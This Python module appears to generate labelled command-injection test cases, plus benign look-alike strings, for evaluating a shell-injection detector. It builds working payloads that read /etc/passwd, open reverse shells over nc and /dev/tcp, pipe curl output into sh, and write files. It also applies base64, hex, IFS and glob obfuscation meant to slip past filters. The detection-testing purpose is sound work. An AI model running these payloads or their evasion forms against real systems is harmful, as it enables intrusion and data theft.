"""Command injection into lines for Unix shells: context x technique x shell x obfuscation.

A payload closes the quote of its slot, gets a command into command position, and makes the rest of the line harmless.
"""

import base64
import re
import string

from ground.case import Case

DATA = ["", "", "127.0.0.1", "x", "a.txt", "foo", "8.8.8.8", "test", "example.com", "1"]
SEPARATORS = [";", "; ", "|", " | ", "||", " || ", "&", " & ", "&&", " && ", "\n", "\r\n", ";;", "|&", "&;", " ;\t", "\n\n"]
ENDS = ["", "", "", " #", "#", ";", " ;#", "\n", " &", "|| true", "&& true", " 2>&1", ";true "]

COMMANDS = ["id", "whoami", "uname -a", "cat /etc/passwd", "ls", "ls -la", "ls -l .", "pwd", "env", "printenv", "ps", "ps aux", "head -3 /etc/passwd", "tail -n 99 /etc/passwd", "cat /etc/os-release",
            "sleep 5", "sleep 10", "curl http://127.0.0.1/x", "curl -s 127.0.0.1:8000", "wget http://127.0.0.1/a -O /tmp/a", "wget -qO- 127.0.0.1", "ping -c 3 127.0.0.1", "ping -n 3 127.0.0.1", "nslookup a.localhost",
            "nc 127.0.0.1 4444", "nc -e /bin/sh 127.0.0.1 4444", "touch pwned", "touch /tmp/pwned", "echo x>pwned", "echo x > /tmp/pwned", "grep root /etc/passwd", "sed -n 1p /etc/passwd", "awk 1 /etc/passwd", "sort /etc/passwd",
            "tac /etc/passwd", "nl /etc/passwd", "cut -d: -f1-4 /etc/passwd", "dd if=/etc/passwd", "find .", "find / -maxdepth 1 -name etc -exec id {} +", "mkdir x", "cp /etc/passwd x", "ln -s /etc/passwd x", "mv canary_file_k7 y", "rm canary_file_k7",
            "rm -rf canary_file_k7", "perl -e 'system(\"id\")'", "perl -e 'print `id`'", "python3 -c 'import os;os.system(\"id\")'", "tee pwned", "telnet 127.0.0.1 23", "dig a.localhost", "openssl s_client -connect 127.0.0.1:443",
            "stat canary_file_k7", "base64 /etc/passwd|base64 -d", "rev /etc/passwd|rev", "xxd /etc/passwd|xxd -r", "cat /etc/passwd|head -2", "ls | cat", "tar cf x canary_file_k7", "gzip -k canary_file_k7", "install canary_file_k7 z",
            "chmod 777 canary_file_k7;id", "exec id", "kill -0 1; id", "hostname;id", "w;id", "date>d", "set", "export", "declare -p", "bash -i >& /dev/tcp/127.0.0.1/80 0>&1;id", "echo $CANARY", "echo $(id)", "echo `whoami`", "printf %s $CANARY", "crontab -l", "ssh 127.0.0.1", "busybox id", "busybox ls"]
QUIET = ["sleep 5", "touch pwned", "touch /tmp/pwned", "curl http://127.0.0.1/x", "wget http://127.0.0.1/a", "ping -c 3 127.0.0.1", "nslookup a.localhost", "id>x"]


def tag(r):
    return "".join(r.choice(string.ascii_uppercase) for _ in range(r.randint(4, 7)))


def echo_probe(r):
    """Prints a tag, the value of an arithmetic expansion, and the tag again by a substitution."""
    name, a, b = tag(r), r.randint(10, 99), r.randint(10, 99)
    sub = r.choice(["$(echo {})", "`echo {}`", "$(printf {})", "$(echo '{}')"]).replace("{}", name)
    quote = r.choice(["", '"'])
    sum_ = r.choice([f"$(({a}+{b}))", f"$(( {a} + {b} ))", f"$(expr {a} + {b})", f"$(({a}*{b}))"])
    value = a * b if "*" in sum_ else a + b
    form = r.choice([f"echo {name}{sum_}{sub}{name}", f"echo {quote}{name}{sum_}{sub}{name}{quote}", f"printf '%s' {name}{sum_}{sub}", f"echo {sum_}{name}{sub}", f"expr {a} + {b}|sed s/^/{name}/", f"echo {name}{sum_}"])
    expected = f"{name}{value}" if not form.startswith(f"echo {sum_}") else f"{value}{name}"
    return form, expected


def time_probe(r):
    """Sleeps if the length of what a command printed is as expected."""
    name, v, w = tag(r), r.choice(["str", "a", "x"]), r.choice(["str1", "n", "len"])
    n = r.randint(2, 9)
    length = r.choice([f"${{#{v}}}", f"$(expr length \"${v}\")"])
    how = r.choice([f"{v}=$(echo {name})", f"{v}=`echo {name}`", f"{v}=$(printf {name})"])
    sep = r.choice([";", " ; ", "\n", " && "])
    test = r.choice([f"if [ {len(name)} -ne ${w} ]{sep if '&' not in sep else ';'}then sleep 0;else sleep {n};fi", f"if [ ${w} -eq {len(name)} ];then sleep {n};fi", f"[ {len(name)} -eq ${w} ] && sleep {n}", f"test ${w} -eq {len(name)} && sleep {n}",
                     f"case ${w} in {len(name)}) sleep {n};;esac"])
    return f"{how}{sep}{w}={length}{sep}{test}"


def control(r):
    c = r.choice(COMMANDS)
    v = r.choice("abcxi")
    return r.choice([f"if true;then {c};fi", f"if :; then {c}; fi", f"while :;do {c};break;done", f"for {v} in 1;do {c};done", f"for {v} in a b; do {c}; done", f"case x in x){c};;esac", f"case a in *) {c};; esac", f"until {c};do break;done",
                     f"{{ {c};}}", f"({c})", f"! {c}", f"f(){{ {c};}};f", f"f() {{ {c}; }}; f", f"function f {{ {c};}};f", f"select x in a;do {c};done", f"while {c};do break;done", f"if {c};then :;fi", f"[ 1 ]&&{c}", f"test 1 && {c}", f":;{c}", f"true&&{c}",
                     f"false||{c}", f"[ x = x ] && {c}", f"for {v} in {c.split()[0]};do ${v} {' '.join(c.split()[1:])};done", f"for((;;)){{ {c};break;}}", f"((1))&&{c}", f"[[ a ]]&&{c}", f"time {c}", f"coproc {c};wait", f"if [ 1 -eq 1 ];then {c};fi", f"let 1 && {c}",
                     f"trap '{c}' EXIT", f"trap {c.split()[0]} 0", f"alias zz={c.split()[0]}\nzz", f"(({c.split()[0]}=1));{c}", f"while read l;do echo $l;done</etc/passwd", "while read -r x; do echo \"$x\"; done < /etc/passwd", "mapfile a</etc/passwd;echo ${a[@]}", "read a</etc/passwd;echo $a",
                     "echo $(</etc/passwd)", "echo *", "echo ./*", "printf '%s\\n' *", "for f in *;do echo $f;done", "cat *", "echo \"$(<canary_file_k7)\";id"])


def variables(r):
    c = r.choice(COMMANDS)
    head, _, rest = c.partition(" ")
    v, w = r.sample(["a", "b", "x", "c", "cmd", "u", "X", "_"], 2)
    cut = r.randint(1, max(1, len(head) - 1))
    return r.choice([f"{v}={head};${v} {rest}", f"{v}={head[:cut]};{w}={head[cut:]};${v}${w} {rest}", f"{v}={head[:cut]}; {w}={head[cut:]}; ${{{v}}}${{{w}}} {rest}", f"{v}='{c}';eval ${v}", f"{v}='{c}';sh -c \"${v}\"", f"{v}=\"{head}\"&&${v} {rest}",
                     f"{head[:cut]}${{{v}}}{head[cut:]} {rest}", f"{head[:cut]}${v}''{head[cut:]} {rest}", f"{v}={head};${{{v}}} {rest}", f"{v}=/etc/pass;cat ${{{v}}}wd", f"{v}=etc;cat /${v}/passwd", f"export {v}={head};${v} {rest}", f"${{{v}:-{head}}} {rest}", f"${{{v}-{head}}} {rest}", f"set {head};$1 {rest}", f"set -- {c};$@", f"IFS=,;{v}='{c.replace(' ', ',')}';${v}", f"{v}=$(echo {head});${v} {rest}",
                     f"read {v}<<<'{c}';${v}", f"{v}=({c});${{{v}[@]}}", f"{v}=x{head};${{{v}#x}} {rest}", f"{v}={head}x;${{{v}%x}} {rest}", f"{v}=q{head}q;${{{v}:1:{len(head)}}} {rest}", f"{v}={head.upper()};${{{v},,}} {rest}", f"printf -v {v} {head};${v} {rest}", f"{v}={head[:cut]};{v}+={head[cut:]};${v} {rest}",
                     "cat $HOME/../../etc/passwd", "cat ${HOME%%s*}etc${HOME%%s*}passwd", "cat ${PATH:0:1}etc${PATH:0:1}passwd", "ls ${HOME:0:1}", "cat ${PWD%%s*}etc/passwd"])


def wrapper(r):
    c = r.choice(COMMANDS)
    q = c.replace("'", "'\\''")
    encoded = base64.b64encode(c.encode()).decode()
    plain = [f"env {c}", f"exec {c}", f"command {c}", f"builtin {c}", f"nohup {c}", f"timeout 5 {c}", f"nice {c}", f"nice -n 5 {c}", f"time {c}", f"setsid {c}", f"stdbuf -o0 {c}", f"ionice {c}", f"busybox {c}", f"xargs {c}", f"echo|xargs {c}", f"X=1 {c}", f"env X=1 {c}", f"env -i /bin/sh -c '{q}'", f"/usr/bin/env {c}",
             f"script -qc '{q}' /dev/null", f"watch -g {c}", f"chrt 0 {c}", f"taskset 1 {c}", f"flock x {c}", f"unshare {c}", f"exec -a x {c}", f"/bin/{c}", f"/usr/bin/{c}", f"/bin/../bin/{c}", f"/usr/bin/../bin/./{c}", f"./../../bin/{c}"]
    shells = [f"sh -c '{q}'", f"bash -c '{q}'", f"/bin/sh -c '{q}'", f"dash -c '{q}'", f"bash -c \"{c}\"" if '"' not in c and "$" not in c else f"sh -c '{q}'", f"eval '{q}'", f"eval {c}", f"eval \"{c}\"" if '"' not in c else f"eval '{q}'", f"echo '{q}'|sh", f"echo {c}|bash", f"printf '{q}'|sh", f"sh<<<'{q}'",
              f"bash <<< '{q}'", f"sh <<x\n{c}\nx\n", f"echo {encoded}|base64 -d|sh", f"base64 -d<<<{encoded}|sh", f"echo '{encoded}' | base64 --decode | bash", f"bash<<<$(base64 -d<<<{encoded})", f"sh -c \"$(echo {encoded}|base64 -d)\"", f"eval $(echo {encoded}|base64 -d)", f"`echo {encoded}|base64 -d`", f"$(base64 -d<<<{encoded})",
              f"$0 -c '{q}'", f"$SHELL -c '{q}'", f". <(echo '{q}')", f"source <(echo '{q}')", f"bash <(echo '{q}')", f"find . -maxdepth 0 -exec {c} \\;", f"find /etc/passwd -exec cat {{}} \\;", f"awk 'BEGIN{{system(\"{c}\")}}'" if '"' not in c and "'" not in c else f"sh -c '{q}'", f"sed '1e {c}' /etc/os-release" if "'" not in c else f"sh -c '{q}'",
              f"perl -e 'exec(\"{c}\")'" if '"' not in c and "'" not in c else f"sh -c '{q}'", f"python3 -c \"__import__('os').system('{c}')\"" if "'" not in c and '"' not in c else f"sh -c '{q}'", f"ruby -e 'puts `{c}`'" if "'" not in c and "`" not in c else f"sh -c '{q}'", f"php -r 'system(\"{c}\");'" if "'" not in c and '"' not in c else f"sh -c '{q}'", f"echo {c.encode().hex()}|xxd -r -p|sh", f"rev<<<'{c[::-1]}'|sh", f"echo '{c[::-1]}'|rev|bash", f"tr a-z b-za<<<x;{c}",
              f"printf '{''.join(f'%c{oct(ord(x))[2:]:0>3}' for x in c).replace('%c', chr(92))}'|sh", f"$(printf '{''.join(f'%cx{ord(x):02x}' for x in c).replace('%c', chr(92))}')", f"echo -e '{''.join(f'%cx{ord(x):02x}' for x in c).replace('%c', chr(92))}'|sh", f"sh -c \"`printf '{c}'`\"" if "'" not in c else f"sh -c '{q}'"]
    return r.choice(plain if r.random() < 0.4 else shells)


def redirection(r):
    v = r.choice(["/etc/passwd", "/etc/os-release"])
    return r.choice([f"cat<{v}", f"cat < {v}", f"<{v} cat", f"0<{v} cat", f"tee x<{v}", f">pwned", f">/tmp/pwned", f": >x", f"id>x", f"id >> x", f"id>&2", f"id 2>/dev/null", f"id &>x", f"id|tee x", f"exec 3<{v};cat<&3", f"exec 3<>{v};cat <&3", f"cat 0<{v}", f"cat<<<x>y", f"echo '<?php ?>'>x.php",
                     f"printf x>x.php", f"cat>x<{v}", f"dd<{v}", f"sort<{v}", f"exec>x;id", f"{{ id;}}>x", f"(id)>x", f"ls>x", f"id|cat", f"yes|head -1>x", f"curl 127.0.0.1|sh", f"wget -O- 127.0.0.1 | bash", f"exec 5<>/dev/tcp/127.0.0.1/1;touch x", f"echo x>/dev/tcp/127.0.0.1/1;id", "cp{,.bak} canary_file_k7;>x"])


def scanner(r):
    return time_probe(r), None


TECHNIQUES = {
    "command": lambda r: (r.choice(COMMANDS), None),
    "echo probe": echo_probe,
    "time probe": scanner,
    "control structure": lambda r: (control(r), None),
    "variables": lambda r: (variables(r), None),
    "wrapper": lambda r: (wrapper(r), None),
    "redirection": lambda r: (redirection(r), None),
}


def splice(r, word):
    """A word with pieces between its letters that the shell removes."""
    if len(word) < 2:
        return word
    place = r.randint(1, len(word) - 1)
    a, b = word[:place], word[place:]
    return r.choice([f"{a}''{b}", f'{a}""{b}', f"{a}\\{b}", f"{a}'{b}'", f'"{a}"{b}', f"'{word}'", f'"{word}"', f"\\{word}", f"{a}$@{b}", f"{a}$*{b}", f"{a}${{x}}{b}", f"{a}${{@}}{b}", f"{a}\\\n{b}", f"{a}`:`{b}", f"{a}$(){b}", f"{a}$9{b}" if not b[0].isdigit() else word, f"{a}$''{b}", f'{a}$""{b}',
                     "$'" + "".join(f"\\x{ord(x):02x}" for x in word) + "'", "$'" + "".join(f"\\{ord(x):03o}" for x in word) + "'", f"$(echo {word})", f"`echo {word}`", f"$(printf {word})", f"$(printf '\\{ord(word[0]):03o}'){word[1:]}", f"$(echo {word[::-1]}|rev)", f"$(tr A-Z a-z<<<{word.upper()})", "'" + "''".join(word) + "'", "\\" + "\\".join(word)])


def glob(r, path):
    """A path as a pattern that matches it."""
    out = "".join(letter if letter == "/" or r.random() < 0.5 else r.choice(["?", f"[{letter}]", f"[{letter}-{letter}]" if letter.isalpha() else "?"]) for letter in path)
    return r.choice([out, re.sub(r"(?<=/\w)\w+(?=/|$)", "*", path), re.sub(r"(?<=/)(\w)(\w+)", lambda m: m[1] + "?" * len(m[2]), path), re.sub(r"\w(?=\w*$)", "?", path), path[:-2] + "*", re.sub(r"/(\w+)", lambda m: f"/{{{m[1]},{m[1]}}}" , path, count=1)])


def obfuscate(r, name, text):
    match name:
        case "word splicing":
            return re.sub(r"(?<![\w$/{.])([a-z]{2,})(?![\w=(])", lambda m: splice(r, m[1]) if r.random() < 0.6 else m[1], text, count=2)
        case "white space":
            return re.sub(r"(?<=\w) (?=[\w/-])", lambda _: r.choice(["${IFS}", "$IFS", "\t", "$IFS$9", "${IFS%?}", "$IFS''", "\\\n ", "  ", "$'\\x20'", "\t\t"]), text)
        case "braces":
            return re.sub(r"\b([a-z]+)((?: [\w/.-]+)+)$", lambda m: "{" + m[1] + m[2].replace(" ", ",") + "}", text)
        case "glob":
            text = re.sub(r"/etc/(?:passwd|os-release)", lambda m: glob(r, m[0]), text)
            return re.sub(r"^(id|cat|ls|head|uname|env)\b", lambda m: glob(r, "/bin/" + m[1]), text)
        case "absolute path":
            return re.sub(r"^(id|cat|ls|head|uname|env|ps|touch|pwd|whoami)\b", lambda m: r.choice(["/bin/", "/usr/bin/", "//bin//", "/bin/./", "/usr/bin/../bin/"]) + m[1], text)
        case "path spelling":
            return text.replace("/etc/passwd", r.choice(["/etc/./passwd", "//etc//passwd", "/etc/../etc/passwd", "../../etc/passwd", "/etc/pass''wd", "/etc/p\\asswd", "/\\e\\t\\c/passwd", "/etc${x}/passwd", "/e\"t\"c/passwd", "/???/passwd", "/etc/passwd-", "/proc/self/root/etc/passwd", "/etc/{passwd,hosts}"]))
    return text


OBFUSCATIONS = ["none", "none", "none", "word splicing", "white space", "braces", "glob", "absolute path", "path spelling"]
CLOSE = {"single-quoted": "'", "double-quoted": '"'}


def attacks(r, target, count):
    contexts = ["argument", "word", "single-quoted", "double-quoted", "file name", "in the middle", "whole line"]
    for _ in range(count):
        context = r.choice(contexts)
        technique = r.choice(list(TECHNIQUES))
        text, expected = TECHNIQUES[technique](r)
        first = r.choice(OBFUSCATIONS) if technique != "echo probe" else r.choice(["none", "white space"])
        chosen = [first] if first == "none" or r.random() < 0.8 else sorted({first, r.choice(OBFUSCATIONS[3:])})
        for name in chosen:
            text = obfuscate(r, name, text)
        place = r.random()
        quote = CLOSE.get(context, "")
        if context == "whole line":
            value, entry = text, "bare"
        elif place < 0.35 and not (context == "single-quoted"):
            form = r.choice(["$({})", "`{}`", "$( {} )", "$({} )", '"$({})"', "<({})", "${{x:-$({})}}".replace("{{", "{").replace("}}}", "}}"), "$((`{}`))", "$({})"])
            if "`" in form and "`" in text:
                form = "$({})"
            value, entry = r.choice(DATA) + form.replace("{}", text) + r.choice(["", "", "x", ";"]), "substitution"
        else:
            separator = r.choice(SEPARATORS)
            reopen = r.choice(["", quote]) if quote else ""
            end = r.choice(ENDS)
            if quote and not reopen and "#" not in end:
                end = r.choice([" #", "#", ";#", "\n#"])
            reopen_with = r.choice([";", "&", "||", " ;", "|"]) + quote if reopen else ""
            value, entry = r.choice(DATA) + quote + separator + text + (reopen_with or end), "separator"
        extra = (("tag", expected),) if expected else ()
        yield Case("rce", target, f"{context}, {entry}", technique, "+".join(chosen), value, extra=extra)


WORDS = ["cat", "dog", "id", "name", "type", "sort", "cut", "find", "time", "date", "host", "who", "more", "less", "head", "tail", "kill", "sleep", "echo", "test", "at", "env", "ping", "curl", "set", "top", "ls", "tree", "apple", "pear", "size", "price", "red", "node", "ruby", "python", "make", "man", "split", "join", "sum", "touch", "stat", "file", "sh"]
PHRASES = ["Cat & Dog", "Tom; Dick; Harry", "find the cat", "sleep well", "kill time", "time is money", "more or less", "who is at the host?", "date: 2024-05-01", "sort by price", "cut here", "make it so", "$5 (five dollars)", "cost $10 & up", "R&D", "AT&T", "Q&A", "rock & roll", "a && b", "a || b", "x > y", "x < y > z",
           "`code`", "use `ls` to list files", "(see note)", "100% cotton; hand wash", "price: $20; size: M", "path/to/file.txt", "C:\\Users\\me", "5 > 3", "if you can; then do", "for each one; do it well", "while you wait; read", "echo of the past", "touch wood", "test; please ignore", "Hello #world", "#1", "~/notes", "*.txt", "a*b", "what?", "[draft]", "{name}", "{a,b}", "$name", "${name}",
           "user@host", "name=value", "a=1&b=2", "x; y; z", "cat, dog; bird", "head & shoulders", "Procter & Gamble", "cut & paste", "copy | paste", "id|name|type", "name;id", "red|green|blue", "yes/no", "man page", "top 10", "don't stop", "it's ok", "\"quoted\"", "line one\nline two", "- item one\n- item two", "host: example\nport: 80", "# Title\n\nSome text; more text & so on.", "who & why", "time & date", "sort | filter"]


def benign(r, target, count):
    # Without quotes around them: what would run there is not benign.
    contexts = ["argument", "word", "in the middle"]
    for _ in range(count):
        form = r.randrange(4)
        if form == 0:
            kind, value = "list", r.choice([",", ", ", ";", "|", " | ", "; ", " & ", "&", "/", ":", " - "]).join(r.sample(WORDS, r.randint(2, 5)))
        elif form == 1:
            kind, value = "phrase", r.choice(PHRASES)
        elif form == 2:
            kind, value = "sentence", f"{r.choice(PHRASES)}{r.choice(['. ', '; ', ', and ', ' & ', ' - ', ': '])}{r.choice(PHRASES)}"
        else:
            kind, value = "fragment", r.choice(["", "(", "\"", "$", "#", "~"]) + " ".join(r.sample(WORDS, r.randint(1, 4))) + r.choice(["", ")", "\"", "?", "!", ";", "&", "..."])
        yield Case("rce", target, r.choice(contexts), kind, "none", value, benign=True)
